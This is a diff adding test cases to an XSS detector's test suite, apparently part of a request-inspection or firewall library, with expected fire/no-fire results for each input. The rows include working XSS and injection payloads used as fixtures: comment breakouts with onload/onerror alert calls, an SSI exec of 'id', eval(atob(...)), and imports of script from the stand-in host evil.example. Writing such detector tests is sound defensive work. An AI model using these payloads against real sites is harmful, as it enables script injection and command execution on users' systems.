@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { isThreat } from '../../src/core/taxonomy.js';
+import { compileEngine } from '../../src/detect/engine.js';
 import type { ContentProfile, InspectedValue, Paranoia, ValueSource } from '../../src/detect/types.js';
 import { xssDetector } from '../../src/detect/xss.js';
 
@@ -98,6 +99,59 @@ const ROWS: Row[] = [
   { input: '<div class="card"><img src="https://cdn.example/a.png" alt="a"></div>', expect: false },
   { input: '<img src="https://tracker.example/p.gif">', expect: true, paranoia: 2 },
   { input: '2024-01-02 <= date <= 2024-12-31', expect: false },
+  // tag names a filter-evasion probe spells out (not executable, but only probes write them)
+  { input: 'foo<f o r m', expect: true, note: 'letters spaced out' },
+  { input: '< x: script', expect: true, note: 'namespace prefix and spaces' },
+  { input: '<\u0000script src=x>', expect: true, note: 'NUL after <' },
+  { input: 'test=<:vmlframe src=x', expect: true, note: 'empty namespace prefix' },
+  { input: 'Hello <d i v> world', expect: false, note: 'div is not worth probing' },
+  { input: 'x < a b c and d > e', expect: false },
+  // leaving an HTML comment; server-side includes
+  { input: '-->', expect: true, note: 'the whole value closes a comment' },
+  { input: '"--><svg onload=alert(1)>', expect: true },
+  { input: '--!><img src=x onerror=alert(1)>', expect: true },
+  { input: '<!--#exec cmd="id"-->', expect: true },
+  { input: '<!--#exec cmd="id"-->', expect: true, profile: 'markup' },
+  { input: 'build --> test --> deploy', expect: false, note: 'arrows in prose' },
+  { input: 'build --> test --> deploy', expect: true, paranoia: 2 },
+  { input: '<!-- note --><p>text</p>', expect: false, note: 'a comment the value opened itself' },
+  { input: 'for (i = 10; i-->0;) {}', expect: false },
+  // DOM sinks standing alone (the whole value, or set off by punctuation)
+  { input: 'window.location', expect: true },
+  { input: '...(document.domain)...', expect: true },
+  { input: 'document.cookie', expect: false, profile: 'free-text' },
+  { input: 'I read window.location in the docs', expect: false },
+  // JS sinks and breakouts
+  { input: 'atob()', expect: true },
+  { input: 'eval(atob("YWxlcnQoMSk="))', expect: true },
+  { input: "import('//evil.example/x.js')", expect: true },
+  { input: "';import('//evil.example/x.js')//", expect: true },
+  { input: "import { a } from './b.js'", expect: false },
+  { input: 'you are willing to import (and wait)', expect: false },
+  { input: "top['al'+'ert'](1)", expect: true, note: 'property name from strings, called' },
+  { input: "obj['first' + 'name']", expect: false, note: 'concatenated key, not called' },
+  { input: 'window.onerror=alert;throw 1', expect: true },
+  { input: 'img.onload = function () {}', expect: false, profile: 'code' },
+  { input: 'a=+!![]', expect: true, note: 'JSFuck atoms' },
+  { input: '![alt](https://example.com/a.png)', expect: false, note: 'Markdown image' },
+  { input: 'c++ [] overloads', expect: false },
+  // handlers: vendor-prefixed names are real handlers; unknown ones only from paranoia 2
+  { input: '  onwebkitplaybacktargetavailabilitychanged= ', expect: true },
+  { input: '  onabcdefgh= ', expect: false },
+  { input: '  onabcdefgh= ', expect: true, paranoia: 2 },
+  { input: 'status=online', expect: false },
+  // XML that makes its parser fetch a remote schema: paranoia 2
+  {
+    input:
+      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>',
+    expect: false,
+  },
+  {
+    input:
+      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>',
+    expect: true,
+    paranoia: 2,
+  },
 ];
 
 describe('xss detector', () => {
@@ -187,11 +241,35 @@ describe('xss detector', () => {
       'alert(',
       'url(',
       '</script',
+      '<f o r',
+      '< x:',
+      '-->',
+      '<!--#exec',
+      "['a'+",
+      '[/*',
+      'import(',
+      'w.onerror=',
+      '+!![',
     ]) {
       const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
       const t0 = performance.now();
       run({ value, location: 'q', source: 'query', profile: 'generic' });
       expect(performance.now() - t0).toBeLessThan(500);
     }
+  });
+});
+
+describe('xss through the engine (decoding included)', () => {
+  const engine = compileEngine({ paranoia: 1, threshold: 0.7, detectors: ['xss'] });
+  it.each([
+    ['foo=bar%3Cf%20o%20r%20m', true],
+    ['--%3E', true],
+    ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', true],
+    ['window%2Elocation', true],
+    ['build%20--%3E%20test', false],
+    ['price%20%3C%205%20and%20size%20%3E%203', false],
+  ] as const)('%s → %s', (value, fires) => {
+    const found = engine.inspect([{ value, location: 'query.q', source: 'query', profile: 'generic' }]);
+    expect(found.some((f) => f.detector === 'xss')).toBe(fires);
   });
 });
